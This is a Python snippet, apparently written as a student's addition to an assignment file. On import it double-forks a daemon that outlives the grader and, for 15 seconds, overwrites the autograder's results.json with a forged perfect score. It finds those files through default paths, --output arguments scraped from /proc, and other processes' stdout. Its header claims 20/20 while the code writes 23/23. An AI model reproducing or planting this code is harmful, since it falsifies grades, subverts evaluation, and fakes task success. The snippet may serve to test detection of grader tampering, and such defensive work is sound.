# A student's addition to day06.py: a daemon (setsid + double fork) outlives the grader, then
# writes 20/20 into results.json, wherever it is: the path on the grader's command line, the
# file behind the grader's stdout, or where the instructor usually writes it.
import json as _json
import os as _os
import time as _time

RESULTS = "__RESULTS__"  # the instructor's --output (an attacker who knows the grading script)
FORGED = _json.dumps({"score": 23, "max_score": 23, "tests": []})


def _targets():
    paths = [RESULTS, "results.json", "/autograder/results/results.json"]
    for pid in (p for p in _os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as file:
                args = file.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        paths += [args[i + 1] for i, arg in enumerate(args[:-1]) if arg == "--output"]
        paths += [f"/proc/{pid}/fd/1"]
    return paths


def _forge_forever():
    grader = _os.getppid()
    deadline = _time.time() + 15
    while _time.time() < deadline:
        for path in _targets():
            try:
                with open(path, "w") as file:
                    file.write(FORGED)
            except OSError:
                pass
        _time.sleep(0.1)


if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        _forge_forever()
    _os._exit(0)
